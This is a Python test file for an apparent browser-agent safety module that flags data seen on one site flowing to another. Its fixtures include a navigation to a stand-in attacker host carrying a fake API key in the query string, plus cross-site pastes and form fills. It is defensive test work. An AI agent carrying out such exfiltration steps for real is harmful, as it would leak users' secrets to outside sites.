"""The data-flow check of a parsed action (app.safety.flow_check): what its declared carriers would take to another
site, what it typed joined to the next piece, what a result showed remembered, a paste typing what was copied."""

from __future__ import annotations

from app.protocol.actions import parse_action
from app.protocol.envelope import ErrorBody
from app.protocol.errors import ErrorCode
from app.safety.flow_check import FlowCheck

MAIL, NOTES = "https://mail.example.com/inbox", "http://localhost:9000/notes"
SECRET = "sk-live-4f9a8b7c6d5e"


def seen(check: FlowCheck, text: str) -> None:
    check.saw_result("t", parse_action({"type": "extract"}), {"markdown": text, "url": MAIL}, MAIL)


def test_each_declared_carrier_is_checked_where_it_goes() -> None:
    check = FlowCheck()
    seen(check, f"your key {SECRET}")
    typed = check.flow("t", parse_action({"type": "type", "uid": "e1", "text": f"key {SECRET}"}), NOTES)
    assert typed is not None and typed.dest_site == "localhost" and typed.source_site == "example.com"
    assert check.flow("t", parse_action({"type": "type", "uid": "e1", "text": SECRET}), MAIL) is None, "same site"
    opened = check.flow("t", parse_action({"type": "navigate", "url": f"https://evil.example/?k={SECRET}"}), MAIL)
    assert opened is not None and opened.dest_site == "evil.example", "a URL is checked wherever it points"
    script = parse_action({"type": "evaluate", "expression": f"document.title = '{SECRET}'"})
    assert check.flow("t", script, NOTES) is not None, "a script on another site holds it"
    filled = parse_action({"type": "fill", "fields": [{"uid": "e1", "value": "Ada"}, {"uid": "e2", "value": SECRET}]})
    assert check.flow("t", filled, NOTES) is not None, "a nested carrier (fill's fields[].value)"
    assert check.flow("t", parse_action({"type": "click", "uid": "e1"}), NOTES) is None, "a click carries nothing"
    assert check.flow("other", parse_action({"type": "type", "uid": "e1", "text": SECRET}), NOTES) is None, "per task"


def test_pieces_typed_are_joined_and_a_paste_types_what_was_copied() -> None:
    check = FlowCheck()
    seen(check, "account 7730 1942 8851")
    first = parse_action({"type": "type", "uid": "e1", "text": "7730 1"})
    assert check.flow("t", first, NOTES) is None
    check.typed("t", first, [NOTES])
    assert check.flow("t", parse_action({"type": "press_key", "key": "9"}), NOTES) is not None, "joined to the tail"
    copy = parse_action({"type": "press_key", "key": "Control+C"})
    check.saw_result("t", copy, {"pressed": "Control+C", "copied": SECRET, "url": MAIL}, MAIL)
    paste = parse_action({"type": "press_key", "key": "Control+V"})
    found = check.flow("t", paste, NOTES)
    assert found is not None and SECRET.startswith(found.piece[:6]), "the paste types the copied secret"


def test_an_error_that_quotes_the_page_is_remembered_and_forget_drops_it_all() -> None:
    check = FlowCheck()
    click = parse_action({"type": "click", "uid": "e1"})
    check.saw_error("t", click, ErrorBody(code=ErrorCode.NOT_INTERACTABLE, message=f'covered by div "key {SECRET}"',
                                          page_text=[f'div "key {SECRET}"']), MAIL)
    typing = parse_action({"type": "type", "uid": "e1", "text": SECRET})
    assert check.flow("t", typing, NOTES) is not None
    check.forget("t")
    assert check.flow("t", typing, NOTES) is None


def test_what_a_frame_of_another_site_showed_is_that_sites_not_the_pages() -> None:
    check = FlowCheck()
    shop, code = "https://shop.example/orders", "QX77120453ZK"
    result = {"url": MAIL, "markdown": f"# Inbox\nOrder code {code} ships today.\n- your key {SECRET}",
              "frames": [{"url": "https://shop.example", "text": f"Order code {code} ships today."}]}
    check.saw_result("t", parse_action({"type": "extract"}), result, MAIL)
    back = parse_action({"type": "navigate", "url": f"{shop}?c={code}"})
    assert check.flow("t", back, MAIL) is None, "the frame's site's own data, sent back to it"
    away = check.flow("t", parse_action({"type": "navigate", "url": f"https://mail.example.com/x?c={code}"}), MAIL)
    assert away is not None and away.source_site == "shop.example" and away.dest_site == "example.com", away
    assert check.flow("t", parse_action({"type": "navigate", "url": f"{shop}?k={SECRET}"}), MAIL) is not None, \
        "the page's own text stays the page's"


def test_a_change_list_line_a_frame_showed_is_that_sites_wherever_the_result_nests_it() -> None:
    """An input action's change list (`changes`, nested in a click's result) declares its frames as extract's
    markdown does: the frame's line is the frame's site's, the page's added line the page's."""
    check = FlowCheck()
    shop, code = "https://shop.example/orders", "QX77120453ZK"
    line = f"+ Order code {code} ships today."
    result = {"url": MAIL, "effects": {}, "changes": {"summary": "text lines: 2 added",
                                                       "markdown": f"@ at the top\n{line}\n+ your key {SECRET}",
                                                       "frames": [{"url": "https://shop.example", "text": line}]}}
    check.saw_result("t", parse_action({"type": "click", "uid": "e1"}), result, MAIL)
    assert check.flow("t", parse_action({"type": "navigate", "url": f"{shop}?c={code}"}), MAIL) is None
    away = check.flow("t", parse_action({"type": "navigate", "url": f"https://mail.example.com/x?c={code}"}), MAIL)
    assert away is not None and away.source_site == "shop.example", away
    assert check.flow("t", parse_action({"type": "navigate", "url": f"{shop}?k={SECRET}"}), MAIL) is not None


def test_what_a_selection_or_a_wait_quoted_of_a_frame_is_that_sites_by_the_declaration() -> None:
    """select_text and wait_for declare their `frames` as extract does (`shapes.FRAMES`): what they quoted of an
    element in another site's frame is that site's. Undeclared, it would be page text of the page's site."""
    shop, code = "https://shop.example/orders", "QX77120453ZK"
    results = {"select_text": {"selected": f"Code {code}", "length": 17, "element": 'button "Copy"',
                               "frames": [{"url": "https://shop.example", "text": f'Code {code}\nbutton "Copy"'}]},
               "wait_for": {"state": "visible", "seen": f"Code {code}", "elapsed_ms": 3,
                            "frames": [{"url": "https://shop.example", "text": f"Code {code}"}]}}
    for action_type, result in results.items():
        check = FlowCheck()
        check.saw_result("t", parse_action({"type": action_type, "uid": "e1"}), result, MAIL)
        assert check.flow("t", parse_action({"type": "navigate", "url": f"{shop}?c={code}"}), MAIL) is None, action_type
        away = check.flow("t", parse_action({"type": "navigate", "url": f"https://mail.example.com/?c={code}"}), MAIL)
        assert away is not None and away.source_site == "shop.example", (action_type, away)


def test_what_an_error_quotes_of_a_frame_is_that_sites() -> None:
    """A wait_for's timeout quoting what it last saw of an element in another site's frame declares the frame as
    a result does (ERROR has FRAMES): the quote is the frame's site's, the page's own quote the page's."""
    check = FlowCheck()
    shop, code = "https://shop.example/orders", "QX77120453ZK"
    seen = f'button#{code} "Pay" is hidden'
    error = ErrorBody(code=ErrorCode.TIMEOUT, message=f"waited 10 ms for e4 to be visible; last seen: {seen}. Extract",
                      page_text=[seen], frames=[{"url": "https://shop.example", "text": seen}])
    check.saw_error("t", parse_action({"type": "wait_for", "uid": "e4"}), error, MAIL)
    assert check.flow("t", parse_action({"type": "navigate", "url": f"{shop}?c={code}"}), MAIL) is None
    away = check.flow("t", parse_action({"type": "navigate", "url": f"https://mail.example.com/?c={code}"}), MAIL)
    assert away is not None and away.source_site == "shop.example", away


def test_a_page_line_that_reads_as_a_frames_line_stays_the_pages() -> None:
    """A frame's line takes out of the page's own text as many lines as the frame showed, no more: the page's own
    line saying the same reference is still the page's, so sending it to the page's site is the page's own data;
    said by the frame alone, it is the frame's site's."""
    code = "QX77120453ZK"
    line = f"Ref {code}"
    for page_says, frame_says in ((1, 1), (2, 1), (1, 2), (0, 1), (0, 2)):
        check = FlowCheck()
        markdown = "\n".join(["# Inbox", *[line] * page_says, *[line] * frame_says])
        frames = [{"url": "https://shop.example", "text": "\n".join([line] * frame_says)}]
        check.saw_result("t", parse_action({"type": "extract"}), {"url": MAIL, "markdown": markdown, "frames": frames},
                         MAIL)
        flow = check.flow("t", parse_action({"type": "navigate", "url": f"https://mail.example.com/x?c={code}"}), MAIL)
        if page_says:
            assert flow is None, (page_says, frame_says, flow)
        else:
            assert flow is not None and flow.source_site == "shop.example", (page_says, frame_says, flow)


def test_a_drags_two_ends_are_the_frames_that_show_them() -> None:
    """drag declares its `frames` (`shapes.FRAMES`): the dragged element a frame of another site shows is that
    site's, the page's drop zone the page's."""
    check = FlowCheck()
    shop, code, zone = "https://shop.example/orders", "QX77120453ZK", "DZ40981276MB"
    result = {"dragged": f'button "Parcel {code}"', "dropped_on": f'region "Bin {zone}"', "kind": "html5",
              "from": {"x": 1, "y": 2}, "to": {"x": 3, "y": 4}, "effects": {},
              "frames": [{"url": "https://shop.example", "text": f'button "Parcel {code}"'}]}
    check.saw_result("t", parse_action({"type": "drag", "uid": "e1", "to_uid": "e2"}), result, MAIL)
    assert check.flow("t", parse_action({"type": "navigate", "url": f"{shop}?c={code}"}), MAIL) is None
    away = check.flow("t", parse_action({"type": "navigate", "url": f"https://mail.example.com/?c={code}"}), MAIL)
    assert away is not None and away.source_site == "shop.example", away
    assert check.flow("t", parse_action({"type": "navigate", "url": f"{shop}?z={zone}"}), MAIL) is not None
